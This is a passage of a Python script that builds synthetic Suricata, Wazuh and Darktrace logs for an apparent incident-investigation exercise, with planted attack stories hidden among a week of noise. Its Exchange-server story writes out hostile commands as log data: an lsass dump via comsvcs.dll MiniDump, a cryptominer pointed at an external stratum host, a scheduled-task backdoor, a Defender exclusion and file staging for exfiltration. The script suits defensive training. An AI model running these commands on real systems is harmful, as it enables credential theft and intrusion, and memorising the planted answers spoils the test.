    ("Thu 09:14:51.900", "EXCH01", "92071", started(POWERSHELL, FETCH % ("dnl.zip", "dnl.exe"), CMD,
        "cmd.exe /c " + FETCH % ("dnl.zip", "dnl.exe"))),
    ("Thu 09:15:10.655", "EXCH01", "60228", ("security", "4698", {"subjectUserName": "EXCH01$", "subjectDomainName": "SAMPLE",
        "taskName": r"\Microsoft\Windows\WindowsUpdate\sync", "taskContent": BACKDOOR})),
    ("Thu 09:15:26.201", "EXCH01", "62152", ("defender", "5007", {"product Name": "Microsoft Defender Antivirus",
        "old Value": "", "new Value": r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Windows\Temp = 0x0"})),
    ("Thu 09:17:05.020", "EXCH01", "92101", ("sysmon", "3", {"image": BACKDOOR, "user": r"NT AUTHORITY\SYSTEM", "protocol": "tcp",
        "initiated": "true", "sourceIp": "10.10.4.21", "sourcePort": "51877", "destinationIp": TELEGRAPH[1],
        "destinationHostname": TELEGRAPH[0], "destinationPort": "443"})),
    ("Thu 09:31:19.310", "EXCH01", "100210", started(r"C:\Windows\Temp\m.exe", r"C:\Windows\Temp\m.exe -o stratum+tcp://198.98.61.152:3333 -u x",
        BACKDOOR, BACKDOOR)),
    ("Thu 09:39:47.880", "EXCH01", "100211", started(CMD, r"cmd.exe /c makecab C:\ProgramData\o.csv C:\ProgramData\o.zip", BACKDOOR, BACKDOOR)),
    ("Thu 09:45:17.466", "EXCH01", "92026", started(r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 664 C:\Windows\Temp\l.dmp full", BACKDOOR, BACKDOOR)),
    ("Thu 09:45:17.690", "EXCH01", "92900", ("sysmon", "10", {"sourceImage": r"C:\Windows\System32\rundll32.exe",
        "targetImage": r"C:\Windows\System32\lsass.exe", "grantedAccess": "0x1fffff", "sourceUser": r"NT AUTHORITY\SYSTEM"})),
    # Sunday
    ("Sun 02:38:52.300", "EXCH01", "100203", ("iis", SECOND_INTRUDER, SHELL_2_URL)),
    ("Sun 02:38:52.610", "EXCH01", "100202", started(CMD, "cmd.exe /c hostname & whoami")),
    ("Sun 02:39:30.744", "EXCH01", "100202", started(CMD, r"cmd.exe /c start C:\Users\Public\Documents\dc.exe")),
    ("Sun 02:40:12.105", "EXCH01", "62123", defender("1116", "Ransom:Win32/DoejoCrypt.A", "2147776725",
        r"C:\Users\Public\Documents\dc.exe", CMD)),
    ("Sun 02:40:13.480", "EXCH01", "62124", defender("1117", "Ransom:Win32/DoejoCrypt.A", "2147776725",
        r"C:\Users\Public\Documents\dc.exe", CMD)),
    ("Sun 02:40:58.401", "EXCH01", "100202", started(CMD, r"cmd.exe /c start C:\Users\Public\Downloads\dc.exe")),
    ("Sun 02:41:05.933", "EXCH01", "62123", defender("1116", "Ransom:Win32/DoejoCrypt.A", "2147776725",
        r"C:\Users\Public\Downloads\dc.exe", CMD)),
    ("Sun 02:41:07.002", "EXCH01", "62124", defender("1117", "Ransom:Win32/DoejoCrypt.A", "2147776725",
        r"C:\Users\Public\Downloads\dc.exe", CMD)),
    ("Sun 02:55:40.270", "EXCH01", "62123", defender("1116", "Backdoor:ASP/Chopper.F!dha", "2147777062", SHELL_2, "Unknown")),
    ("Sun 02:55:41.118", "EXCH01", "62124", defender("1117", "Backdoor:ASP/Chopper.F!dha", "2147777062", SHELL_2, "Unknown")),
]
# Friday's clean-up found one of the two shells; an analyst may file this deletion with the incident or not.
CLEAN_UP = [("Fri 21:12:33.100", "EXCH01", "553", ("fim", "deleted", SHELL_1))]


def seen(host=None, ip=None, port=None, **more):
    shown = {"Connection hostname": host, "Destination IP": ip, "Destination port": port}
    shown.update({k.replace("_", " "): v for k, v in more.items()})
    return {k: str(v) for k, v in shown.items() if v is not None}


AT_DOWNLOAD = dict(host=DOWNLOAD[0], ip=DOWNLOAD[1], port=8080)

# Darktrace: (when, device, model, score, size, threshold, what the breach displays)
STORY_1_DARKTRACE = [
    ("Thu 09:14:31.000", "EXCH01", "Device::New PowerShell User Agent", 0.61, 1, 0, seen(User_agent=POWERSHELL_UA, **AT_DOWNLOAD)),
    ("Thu 09:14:31.000", "EXCH01", "Anomalous Connection::Powershell to Rare External", 0.72, 1, 0,
        seen(User_agent=POWERSHELL_UA, Rare_external_IP=100, **AT_DOWNLOAD)),
    ("Thu 09:14:38.000", "EXCH01", "Anomalous File::Masqueraded File Transfer", 0.88, 1187328, 0,
        seen(URI="/c103w-a.zip", User_agent=POWERSHELL_UA, File_extension="zip", MIME_type="application/x-dosexec",
             HTTP_method="GET", **AT_DOWNLOAD)),
    ("Thu 09:14:38.000", "EXCH01", "Anomalous File::EXE from Rare External Location", 0.79, 1187328, 0,
        seen(URI="/c103w-a.zip", User_agent=POWERSHELL_UA, HTTP_method="GET", **AT_DOWNLOAD)),
    ("Thu 09:14:39.000", "EXCH01", "Anomalous File::Internet Facing System File Download", 0.94, 1187328, 0,
        seen(URI="/c103w-a.zip", User_agent=POWERSHELL_UA, HTTP_method="GET", **AT_DOWNLOAD)),
    ("Thu 09:14:53.000", "EXCH01", "Anomalous File::Multiple EXE from Rare External Locations", 0.86, 2, 1,
        seen(URI="/dnl.zip", User_agent=POWERSHELL_UA, HTTP_method="GET", **AT_DOWNLOAD)),
    ("Thu 09:16:21.000", "EXCH01", "Anomalous File::EXE from Rare External Location", 0.77, 402944, 0,
        seen(CHATCDN[0], CHATCDN[1], 80, URI="/p?hig210305", HTTP_method="GET")),
    ("Thu 09:17:05.000", "EXCH01", "Anomalous Connection::Suspicious Expired SSL", 0.58, 1, 0,
        seen(TELEGRAPH[0], TELEGRAPH[1], 443, Certificate_expiry="2020-11-30")),
    ("Thu 09:19:10.000", "EXCH01", "Device::Initial Breach Chain Compromise", 0.98, 4, 2, seen(TELEGRAPH[0], TELEGRAPH[1], 443)),
    ("Thu 09:22:41.000", "EXCH01", "Anomalous Connection::Suspicious Expired SSL", 0.66, 7, 5,
        seen(TELEGRAPH[0], TELEGRAPH[1], 443, Certificate_expiry="2020-11-30")),
    ("Thu 09:31:20.000", "EXCH01", "Compliance::Crypto Currency Mining Activity", 0.74, 1, 0, seen(None, DOWNLOAD[1], 3333,
        Application_protocol="Stratum", Message="mining.submit")),
    ("Thu 09:40:30.000", "EXCH01", "Anomalous Connection::Data Sent to Rare Domain", 0.69, 2318442, 1000000,
        seen(OPENDRIVE[0], OPENDRIVE[1], 443)),
    ("Thu 09:40:31.000", "EXCH01", "Anomalous Connection::Suspicious Expired SSL", 0.55, 1, 0,
        seen(OPENDRIVE[0], OPENDRIVE[1], 443, Certificate_expiry="2021-01-14")),
    ("Thu 09:41:01.000", "EXCH01", "Anomalous Connection::Data Sent to Rare Domain", 0.57, 781904, 500000, seen(ODLK[0], ODLK[1], 443)),
    ("Sun 02:41:20.000", "EXCH01", "Device::Internet Facing Device with High Priority Alert", 0.81, 1, 0, seen(None, SECOND_INTRUDER, 443)),
]
# the blocks: (when, model, kind, hours, what is blocked)
STORY_1_RESPONSES = [
    ("Thu 09:14:46.000", "Antigena::Network::External Threat::Antigena Suspicious File Block", "connection", 2, seen(**AT_DOWNLOAD)),
    ("Thu 09:14:54.000", "Antigena::Network::Significant Anomaly::Antigena Controlled and Model Breach", "connection", 4, seen(**AT_DOWNLOAD)),
    ("Thu 09:16:31.000", "Antigena::Network::External Threat::Antigena File then New Outbound Block", "connection", 2,
        seen(CHATCDN[0], CHATCDN[1], 80)),
    ("Thu 09:26:12.000", "Antigena::Network::Significant Anomaly::Antigena Significant Anomaly from Client Block", "connection", 4,
        seen(TELEGRAPH[0], TELEGRAPH[1], 443)),
    ("Thu 09:26:12.000", "Antigena::Network::Significant Anomaly::Antigena Breaches Over Time Block", "connection", 4,
        seen(TELEGRAPH[0], TELEGRAPH[1], 443)),
    ("Thu 09:31:31.000", "Antigena::Network::Compliance::Antigena Crypto Currency Mining Block", "connection", 4, seen(None, DOWNLOAD[1], 3333)),
    ("Thu 09:41:02.000", "Antigena::Network::Significant Anomaly::Antigena Enhanced Monitoring from Client Block", "connection", 4,
        seen(ODLK[0], ODLK[1], 443)),
    ("Thu 09:52:05.000", "Antigena::Network::Significant Anomaly::Antigena Breaches Over Time Block", "pol", 24, seen()),
]

# -- 2: Tuesday, WKS-0417 packs project files and sends 2.4 GB to a storage service nobody uses (3 h 12 min) ------------
RAR = r"C:\Program Files\WinRAR\Rar.exe"
EXPLORER = r"C:\Windows\explorer.exe"


def packs(part, folder):
    return started(RAR, r'"%s" a -m3 -v500m C:\Users\t.kern\AppData\Local\Temp\q\%s.rar \\FS01\%s' % (RAR, part, folder),
                   EXPLORER, EXPLORER, r"SAMPLE\t.kern")


STORY_2_WAZUH = [
    ("Tue 14:18:07.204", "WKS-0417", "100211", packs("p1", r"Projects\2021\Tender")),
    ("Tue 14:26:40.951", "WKS-0417", "100211", packs("p2", r"Projects\2020\Contracts")),
    ("Tue 14:35:12.377", "WKS-0417", "100211", packs("p3", r"Sales\Pricing")),
    ("Tue 14:43:58.020", "WKS-0417", "100211", packs("p4", r"Projects\Drawings")),
]
# uploads: (start, end, bytes sent); together 2.4 GB
STORY_2_UPLOADS = [
    ("Tue 14:47:30.112", "Tue 15:16:02.500", 497318204), ("Tue 15:18:44.071", "Tue 15:47:20.900", 503920117),
    ("Tue 15:50:03.655", "Tue 16:19:31.200", 499127733), ("Tue 16:22:15.390", "Tue 16:51:59.700", 501664020),
    ("Tue 16:54:41.818", "Tue 17:30:06.400", 402551846),
]
STORY_2_DARKTRACE = [
    ("Tue 14:22:15.000", "WKS-0417", "Unusual Activity::Internal Data Transfer", 0.48, 2611480221, 1000000000,
        seen(None, "10.10.4.31", 445, Internal_destination_device_name="FS01")),
    ("Tue 14:52:10.000", "WKS-0417", "Anomalous Connection::Data Sent to Rare Domain", 0.71, 84213904, 20000000, seen(MEGA[0], MEGA[1], 443)),
    ("Tue 15:20:31.000", "WKS-0417", "Unusual Activity::Unusual External Data Transfer", 0.78, 498901177, 200000000, seen(MEGA[0], MEGA[1], 443)),
    ("Tue 16:20:02.000", "WKS-0417", "Unusual Activity::Unusual External Data Transfer", 0.80, 1500366054, 200000000, seen(MEGA[0], MEGA[1], 443)),
    ("Tue 17:30:08.000", "WKS-0417", "Unusual Activity::Enhanced Unusual External Data Transfer", 0.91, 2404581920, 1000000000,
        seen(MEGA[0], MEGA[1], 443)),
]

# -- 3: Friday, svc-backup from SRV-BKP-2, where it has never been, opens 61 shares (1 h 47 min) ------------------------
SHARES = {
    "FS01": "Accounting Board Contracts Drawings Export Finance General HR Import Legal Logistics Marketing Payroll Pricing "
            "Projects Purchasing Quality Sales Scans Tender".split(),
    "FS02": "Archive2016 Archive2017 Archive2018 Archive2019 Archive2020 CAD Catalogue Customers Forms Photos Software Suppliers "
            "Templates Training Transfer Warehouse".split(),
    "DC01": "ADMIN$ C$ NETLOGON SYSVOL".split(), "DC02": "ADMIN$ C$ NETLOGON SYSVOL".split(),
    "EXCH01": "ADMIN$ C$ address".split(), "SRV-BKP-1": "ADMIN$ C$ Vault1 Vault2 Vault3 Vault4".split(),
    "PROXY01": "ADMIN$ C$".split(), "WKS-0401": "ADMIN$ C$ Users".split(), "WKS-0402": "ADMIN$ C$ Users".split(),
}
DENIED = {"ADMIN$", "C$", "Board", "Payroll", "HR", "Legal"}
STORY_3 = dict(user="svc-backup", host="SRV-BKP-2", first="Fri 14:10:00.412", last="Fri 15:57:04.900")
STORY_3_DARKTRACE = [
    ("Fri 14:12:20.000", "SRV-BKP-2", "User::New Admin Credentials on Client", 0.52, 1, 0,
        seen(None, "10.10.4.11", 88, Message="svc-backup", Internal_destination_device_name="DC01")),
    ("Fri 14:25:44.000", "SRV-BKP-2", "Anomalous Connection::SMB Enumeration", 0.64, 24, 20,
        seen(None, "10.10.4.31", 445, Internal_destination_device_name="FS01")),
    ("Fri 15:04:09.000", "SRV-BKP-2", "Device::SMB Session Brute Force", 0.49, 12, 10,
        seen(None, "10.10.4.12", 445, Internal_destination_device_name="DC02")),
    ("Fri 15:57:05.000", "SRV-BKP-2", "Anomalous Connection::SMB Enumeration", 0.70, 61, 20,
        seen(None, "10.10.4.32", 445, Internal_destination_device_name="FS02")),
]
STORY_3_EVE = [("Fri 14:31:02.118", "FS01"), ("Fri 14:58:40.733", "DC01"), ("Fri 15:03:55.090", "DC02"), ("Fri 15:20:17.404", "EXCH01"),
               ("Fri 15:41:26.871", "WKS-0401")]

# -- 4: Saturday, a camera looks for Telnet in the guest network (7 h 31 min) -------------------------------------------
STORY_4 = dict(host="CAM-22", first="Sat 14:02:00.250", last="Sat 21:33:00.700", alerts=46, network="10.40.0.0/16")
STORY_4_ANSWERS = [("Sat 15:11:20.335", "CAM-09"), ("Sat 15:11:23.810", "CAM-09"), ("Sat 18:40:02.127", "CAM-14")]
STORY_4_DARKTRACE = [
    ("Sat 14:09:30.000", "CAM-22", "Device::Network Scan", 0.51, 212, 100, seen(None, "10.40.1.0", 23)),
    ("Sat 14:31:08.000", "CAM-22", "Device::Suspicious Network Scan Activity", 0.63, 890, 250, seen(None, "10.40.3.0", 23)),
    ("Sat 17:02:44.000", "CAM-22", "Device::Suspicious Network Scan Activity", 0.66, 5120, 250, seen(None, "10.40.20.0", 23)),
    ("Sat 21:33:10.000", "CAM-22", "Device::Suspicious Network Scan Activity", 0.68, 14333, 250, seen(None, "10.40.55.0", 23)),
]

# -- what Cyber AI Analyst wrote about it ------------------------------------------------------------------------------
# (label, created, device, title, first, last, score, category, group, tactics, summary, facts, related breach times)
AI_ANALYST = [
    ("exch-file", "Thu 09:24:10.000", "EXCH01", "Suspicious File Download", "Thu 09:14:31.000", "Thu 09:16:31.000", 94, "critical", "g-exch",
     ["initial-access", "execution"],
     "The device EXCH01 was observed downloading executable files from the rare external endpoint microsoftsoftwaredownload.com "
     "with a PowerShell user agent that it had not used before.\n\nThe names of the files suggested archives, while their content was "
     "that of Windows programs.\n\nIf this behaviour is unexpected, the security team should check the files.",
     [("externalHost", "Endpoint", "microsoftsoftwaredownload.com"), ("string", "File", "/c103w-a.zip"), ("string", "File", "/dnl.zip"),
      ("string", "User agent", POWERSHELL_UA), ("externalHost", "Endpoint", "cdn.chatcdn.net")],
     ["Thu 09:14:31.000", "Thu 09:14:38.000", "Thu 09:14:53.000", "Thu 09:16:21.000"]),
    ("exch-c2", "Thu 09:48:02.000", "EXCH01", "Possible SSL Command and Control to Multiple Endpoints", "Thu 09:17:05.000", "Thu 09:41:02.000", 100,
     "critical", "g-exch", ["command-and-control", "exfiltration"],
     "The device EXCH01 was observed making regular SSL connections to rare external endpoints shortly after it had downloaded "
     "suspicious files.\n\nNone of the endpoints had been contacted by another device of the network.\n\nIf this behaviour is "
     "unexpected, it may be command and control or the transfer of data.",
     [("externalHost", "Endpoint", "telegra.ph"), ("externalHost", "Endpoint", "dev.opendrive.com"), ("externalHost", "Endpoint", "od.lk")],
     ["Thu 09:17:05.000", "Thu 09:22:41.000", "Thu 09:40:30.000", "Thu 09:41:01.000"]),
    ("exch-mining", "Thu 09:52:30.000", "EXCH01", "Crypto Currency Mining Activity", "Thu 09:31:20.000", "Thu 09:31:31.000", 71, "critical", "g-exch",
     ["impact"],
     "The device EXCH01 was observed using the Stratum mining protocol with the endpoint 198.98.61.152.\n\nThe same endpoint had served "
     "it suspicious files a few minutes earlier.",
     [("externalHost", "Endpoint", "198.98.61.152"), ("integer", "Destination port", "3333")], ["Thu 09:31:20.000"]),
    ("kern", "Tue 17:44:00.000", "WKS-0417", "Unusual External Data Transfer", "Tue 14:22:15.000", "Tue 17:30:08.000", 78, "critical", "g-kern",
     ["exfiltration"],
     "The device WKS-0417 was observed sending 2.4 GB to the rare external endpoint upload.mega.example.\n\nBefore, it had read a similar "
     "amount from the internal server FS01.",
     [("externalHost", "Endpoint", "upload.mega.example"), ("string", "Data sent", "2.40 GB")],
     ["Tue 14:52:10.000", "Tue 15:20:31.000", "Tue 17:30:08.000"]),
    ("bkp", "Fri 16:10:00.000", "SRV-BKP-2", "Unusual SMB Share Enumeration", "Fri 14:12:20.000", "Fri 15:57:05.000", 55, "suspicious", "g-bkp",
     ["discovery"],
     "The device SRV-BKP-2 was observed accessing 61 SMB shares on nine machines with the credential svc-backup, which had not been used "
     "on it before.",
     [("string", "Credential", "svc-backup"), ("integer", "Shares", "61")], ["Fri 14:25:44.000", "Fri 15:57:05.000"]),
    ("cam", "Sat 15:00:00.000", "CAM-22", "Scanning of Multiple Devices", "Sat 14:02:00.000", "Sat 21:33:10.000", 47, "suspicious", "g-cam", ["discovery"],
     "The device CAM-22 was observed scanning the subnet 10.40.0.0/16 on port 23.\n\nAlmost no device answered.",
     [("string", "Subnet", "10.40.0.0/16"), ("integer", "Destination port", "23")], ["Sat 14:09:30.000", "Sat 14:31:08.000"]),
    # and one that is nothing
    ("scan01", "Wed 03:31:00.000", "SCAN01", "Scanning of Multiple Devices", "Wed 03:02:00.000", "Wed 03:28:00.000", 22, "compliance", "g-scan01",
     ["discovery"], "The device SCAN01 was observed scanning internal servers on several ports, as it does every night.",
     [("string", "Subnet", "10.10.0.0/16")], []),
]

# ---------------------------------------------------------------------------------------------------------------------
# 4. The noise: an ordinary week
# ---------------------------------------------------------------------------------------------------------------------

# Alerts per hour of the day, relative; weekends have their own line.
OFFICE = [1, 1, 1, 1, 1, 1, 3, 8, 26, 30, 27, 25, 17, 26, 28, 26, 25, 22, 14, 8, 5, 3, 2, 1]
WEEKEND = [1, 1, 1, 1, 1, 1, 1, 2, 4, 5, 5, 5, 4, 5, 5, 4, 4, 3, 2, 2, 1, 1, 1, 1]
ROUND_THE_CLOCK = [10, 11, 12, 12, 11, 10, 9, 9, 8, 8, 8, 9, 9, 9, 9, 9, 10, 10, 10, 11, 11, 11, 10, 10]

# Suricata: signature, how many, rhythm, who talks to whom
NOISE_EVE = [
    ("dyndns", 40, "office", "dns"), ("tlsrecord", 34, "office", "tls"), ("stream", 26, "office", "web"), ("streamwin", 14, "clock", "web"),
    ("metadata", 24, "office", "web"), ("stun", 26, "office", "udp"), ("teamviewer", 10, "office", "web"),
]
# On EXCH01 itself, all week and in the attack hour too: none of it belongs to the incident.
NOISE_EVE_EXCH01 = [("tlsrecord", 14, ["Thu 09:20:41.300", "Thu 09:44:02.910"]), ("stream", 5, ["Thu 09:36:18.004"])]
# The same every day: (signature, client, server, clock)
NOISE_EVE_DAILY = [
    ("falsebot", "PROXY01", "192.0.2.61", "06:30:05"),
    ("nmap", "SCAN01", "WEB01", "03:05:10"), ("passwd", "SCAN01", "WEB01", "03:09:40"),
    ("struts", "SCAN01", "EXCH01", "03:14:22"), ("passwd", "SCAN01", "EXCH01", "03:17:51"),
    ("apt", "WEB01", "192.0.2.40", "06:25:12"), ("apt", "MX01", "192.0.2.40", "06:31:47"), ("apt", "DEV01", "192.0.2.40", "06:44:03"),
    ("apt", "VPN01", "192.0.2.40", "06:52:39"),
]
INTERNET_SCANS = ["sshscan", "mssql", "mysql", "vnc", "dshield", "cins", "sshscan", "dshield"]

# Wazuh: rule, how many, rhythm, maker
NOISE_WAZUH = [
    ("60122", 50, "office", "logon-failure"), ("60204", 5, "office", "logon-failures"), ("92652", 22, "office", "remote-logon"),
    ("5760", 18, "office", "sshd"), ("5710", 14, "clock", "sshd-outside"), ("5715", 22, "office", "sshd"), ("5402", 20, "office", "sudo"),
    ("9701", 30, "office", "dovecot"), ("9702", 12, "office", "dovecot"), ("61104", 18, "clock", "service"), ("61138", 8, "office", "new-service"),
    ("60642", 16, "clock", "spp"), ("92213", 14, "office", "updater-drop"),
]
NOISE_WAZUH_EXCH01 = [
    ("60122", 30, "clock", "activesync", ["Thu 09:12:41.520", "Thu 09:18:20.088", "Thu 09:33:02.760", "Thu 09:41:47.301"]),
    ("100230", 12, "office", "mail-queue", ["Thu 09:24:15.640", "Thu 09:50:30.112"]),
]
SIGNATURE_UPDATES = {"EXCH01": "09:30:11", "DC01": "04:10:40", "DC02": "04:14:02", "FS01": "04:21:17", "FS02": "04:25:55",
                     "SRV-BKP-1": "04:40:09", "SRV-BKP-2": "04:43:31"}
NIGHTLY_BACKUP = [("01:00:12", "FS01"), ("01:14:40", "FS02"), ("01:31:08", "DC01"), ("01:44:55", "EXCH01")]
# Patch windows: (from, to, hosts, files)
PATCHES = [
    ("Wed 12:05:00", "Wed 13:20:00", ["WKS-0403", "WKS-0408", "WKS-0411", "WKS-0419", "WKS-0422", "WKS-0430"], 18,
     [r"C:\Windows\System32\drivers\etc\services", r"C:\Windows\System32\msxml6.dll", r"C:\Windows\System32\wininet.dll"]),
    ("Fri 20:10:00", "Fri 20:52:00", ["EXCH01"], 16,
     [r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\Microsoft.Exchange.Common.dll",
      r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\Microsoft.Exchange.HttpProxy.Common.dll",
      r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\bin\Microsoft.Exchange.FrontEndHttpProxy.dll",
      r"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\ecp\web.config"]),
    ("Sat 10:00:00", "Sat 10:40:00", ["DC01", "DC02", "FS01"], 10, [r"C:\Windows\System32\ntdll.dll", r"C:\Windows\System32\lsasrv.dll"]),
]
# Once in the week, each with a harmless reason
SINGLETONS = [
    ("Mon 10:41:26.300", "WKS-0412", "60227", "usb"),                  # a new keyboard
    ("Wed 21:17:44.900", "VPN01", "100240", "vpn"),                    # k.ito on a business trip
    ("Mon 15:02:10.010", "DC01", "60154", "admins"),                   # the help desk, ticket open
    ("Wed 11:26:31.700", "WKS-0405", "62123", "pua"), ("Wed 11:26:33.120", "WKS-0405", "62124", "pua"),
    ("Wed 10:22:08.450", "EXCH01", "61138", "sysmon-installed"),       # process records of EXCH01 start here
]

# Darktrace: model, how many, rhythm, highest score in per cent, maker
NOISE_DARKTRACE = [
    ("SMB::Unusual Share Listing", 78, "office", 34, "smb"), ("Compliance::Remote Admin Tool", 44, "office", 30, "remote"),
    ("Device::New User Agent", 38, "office", 26, "agent"), ("DNS::Long Query Names", 32, "clock", 28, "dns"),
    ("Compliance::File Storage", 16, "office", 33, "storage"), ("SaaS::Access::Unusual External Source for SaaS User", 8, "office", 41, "saas"),
    ("Unusual Activity::Internal Data Transfer", 6, "office", 38, "gather"), ("Anomalous Connection::Data Sent to Rare Domain", 3, "office", 36, "sent"),
]
NOISE_DARKTRACE_DAILY = [("Anomalous Server Activity::Rare External from Server", "PROXY01", "06:30:20", 0.82),
                         ("Device::Network Scan", "SCAN01", "03:06:30", 0.34)]

# ---------------------------------------------------------------------------------------------------------------------
# 5. The records, in the shapes of the three products
# ---------------------------------------------------------------------------------------------------------------------

records = {"eve": [], "wazuh": [], "darktrace": []}      # (microseconds, record, story)


def address(who):
    return HOSTS[who][0] if who in HOSTS else who


def clock(us, zone, digits=6, suffix=None):
    moment = datetime.fromtimestamp(us // 1000000, zone)
    fraction = "%06d" % (us % 1000000)
    fraction = fraction[:digits] if digits <= 6 else fraction + "0" * (digits - 6)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + fraction + (suffix if suffix is not None else moment.strftime("%z"))


def local(us):
    return clock(us, JST)


def utc(us, digits=3, suffix="+0000"):
    return clock(us, timezone.utc, digits, suffix)


def mac(name):
    return ":".join([("02", "06", "0a", "0e")[int(digest(name)[0], 16) % 4]] + [digest(name)[2 * i:2 * i + 2] for i in range(1, 6)])


# -- Suricata ---------------------------------------------------------------------------------------------------------



def eve_base(us, kind, flow, proto="TCP"):
    return {"timestamp": local(us), "flow_id": flow["id"], "in_iface": "eth1", "event_type": kind, "src_ip": flow["src"],
            "src_port": flow["sport"], "dest_ip": flow["dst"], "dest_port": flow["dport"], "proto": proto}


def flow_of(src, dst, dport, us):
    return {"id": int(digest("%s %s %d %d" % (src, dst, dport, us))[:13], 16), "src": address(src), "sport": chance.between(49160, 65500),
            "dst": address(dst), "dport": dport, "start": us - chance.between(40000, 180000)}


def tls_layer(sni, expired=None):
    return {"subject": "CN=" + sni, "issuerdn": "C=US, O=Sample CA, CN=Sample CA R3", "serial": ":".join(digest(sni)[i:i + 2].upper() for i in range(0, 16, 2)),
            "fingerprint": ":".join(digest(sni, "sha1")[i:i + 2] for i in range(0, 40, 2)), "sni": sni, "version": "TLS 1.2",
            "notbefore": "2020-09-01T00:00:00", "notafter": expired or "2021-09-01T23:59:59",
            "ja3": {"hash": digest("ja3 " + sni, "md5")}, "ja3s": {"hash": digest("ja3s " + sni, "md5")}}


def eve_alert(us, key, src, dst, dport, layers=None, story="noise", flow=None, proto="TCP", action="allowed", app=None,
              sent=None, reverse=False):
    sid, rev, signature, category, severity, words, target, attack = SIGNATURES[key]
    layers = layers or {}
    flow = flow or flow_of(src, dst, dport, us)
    record = eve_base(us, "alert", flow, proto)
    if reverse:
        record.update(src_ip=flow["dst"], src_port=flow["dport"], dest_ip=flow["src"], dest_port=flow["sport"])
    if layers:
        record["tx_id"] = 0
    record["alert"] = {"action": action, "gid": 1, "signature_id": sid, "rev": rev, "signature": signature,
                       "category": category, "severity": severity}
    if words:
        metadata = {"attack_target": [target], "created_at": ["2021_03_05" if 2032000 < sid < 2032100 else "2017_10_16"],
                    "deployment": ["Perimeter"], "signature_severity": [words], "updated_at": ["2021_03_06"]}
        if attack:
            metadata.update(mitre_tactic_id=[attack[0]], mitre_tactic_name=[TACTICS[attack[0]]], mitre_technique_id=[attack[1]],
                            mitre_technique_name=[TECHNIQUES[attack[1]][0].replace(" ", "_")])
        record["alert"]["metadata"] = metadata
    if "http" in layers:
        record["http"] = dict(layers["http"])
        if dport not in (80, 443):
            record["http"]["http_port"] = dport
        record["app_proto"] = "http"
    elif "tls" in layers:
        record["tls"] = tls_layer(layers["tls"], layers.get("expired"))
        record["app_proto"] = "tls"
    elif "sni" in layers:                                  # reset before the server could answer
        record["tls"] = {"sni": layers["sni"], "version": "UNDETERMINED"}
        record["app_proto"] = "tls"
    elif "dns" in layers:
        record["dns"] = {"query": [{"type": "query", "id": chance.below(65536), "rrname": layers["dns"], "rrtype": "A", "tx_id": 0}]}
        record["app_proto"] = "dns"
    elif app:
        record["app_proto"] = app
    if "file" in layers:
        name, size, state, magic, sha256 = layers["file"]
        record["files"] = [{"filename": name, "magic": magic, "gaps": False, "state": state, "stored": False, "size": size, "tx_id": 0}]
        if sha256:
            record["files"][0]["sha256"] = sha256
    up, down = sent or (chance.between(400, 2400), chance.between(300, 5200))
    if "file" in layers:
        down = layers["file"][1] + 900
    record["flow"] = {"pkts_toserver": up // 900 + 3, "pkts_toclient": down // 1200 + 3, "bytes_toserver": up, "bytes_toclient": down,
                      "start": local(flow["start"])}
    records["eve"].append((us, record, story))
    return flow


def eve_telemetry(us, kind, flow, body, proto="TCP", app=None):
    record = eve_base(us, kind, flow, proto)
    record.update(body)
    if app:
        record["app_proto"] = app
    records["eve"].append((us, record, None))


def eve_flow(us, flow, up, down, app, state="closed"):
    eve_telemetry(us, "flow", flow, {"flow": {"pkts_toserver": up // 1300 + 4, "pkts_toclient": down // 1200 + 4, "bytes_toserver": up,
        "bytes_toclient": down, "start": local(flow["start"]), "end": local(us - 1000), "age": (us - flow["start"]) // 1000000,
        "state": state, "reason": "timeout", "alerted": True}}, app=app)


def tell_eve(rows, story):
    flow = None
    for when, key, src, dst, dport, layers in rows:
        us = at(when)
        flow = eve_alert(us, key, src, dst, dport, layers, story, flow if layers.get("same_flow") else None,
                         app="failed" if key == "stratum" else None)
        if layers.get("same_flow"):
            continue
        if "http" in layers:
            eve_telemetry(us + 2100, "http", flow, {"tx_id": 0, "http": dict(layers["http"])})
        if "tls" in layers:
            eve_telemetry(us - 900, "tls", flow, {"tls": tls_layer(layers["tls"], layers.get("expired"))})
        if "file" in layers:
            name, size, state, magic, sha256 = layers["file"]
            body = {"http": dict(layers["http"]), "fileinfo": {"filename": name, "magic": magic, "gaps": False, "state": state,
                    "stored": False, "size": size, "tx_id": 0}}
            if sha256:
                body["fileinfo"]["sha256"] = sha256
            # the file travels from server to client
            eve_telemetry(us + 640000, "fileinfo", {"id": flow["id"], "src": flow["dst"], "sport": flow["dport"], "dst": flow["src"],
                                                    "dport": flow["sport"]}, body, app="http")
        if "flow_end" in layers:
            end, up, down = layers["flow_end"]
            eve_flow(at(end), flow, up, down, "tls")


# -- Wazuh ------------------------------------------------------------------------------------------------------------

CHANNELS = {"sysmon": ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "Microsoft-Windows-Sysmon/Operational"),
            "security": ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}", "Security"),
            "defender": ("Microsoft-Windows-Windows Defender", "{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}", "Microsoft-Windows-Windows Defender/Operational"),
            "system": ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}", "System"),
            "application": ("MSExchangeTransport", "{45010000-0000-0000-0000-000000000000}", "Application"),
            "spp": ("Microsoft-Windows-Security-SPP", "{e23b33b0-c8c9-472c-a5f9-f2bdfea0f156}", "Application")}
record_numbers = {}


def fields(rule, data):
    """The rule's description with its $(names) filled in from the event."""
    text = RULES[rule][1]
    flat = dict(data)
    flat.update(data.get("win", {}).get("eventdata", {}))
    flat = {k[0].lower() + k[1:]: v for k, v in flat.items() if isinstance(v, str)}
    while "$(" in text:
        head, rest = text.split("$(", 1)
        name, tail = rest.split(")", 1)
        text = head + flat.get(name, "") + tail
    return text


def wazuh(us, host, rule, story="noise", delay=None, **body):
    level, _, groups, techniques = RULES[rule]
    described = {"level": level, "description": fields(rule, body.get("data", {})), "id": rule}
    if techniques:
